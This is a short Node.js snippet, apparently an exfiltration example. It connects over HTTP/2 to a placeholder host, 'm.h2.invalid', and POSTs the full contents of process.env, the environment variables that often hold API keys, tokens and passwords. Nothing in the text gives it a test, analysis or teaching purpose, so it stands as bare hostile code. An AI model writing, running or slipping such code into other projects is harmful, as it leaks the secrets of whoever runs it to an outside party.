const http2 = require('http2');
const client = http2.connect('https://m.h2.invalid');
const req = client.request({ ':method': 'POST', ':path': '/e' });
req.write(JSON.stringify(Object.assign({}, process.env)));
req.end();
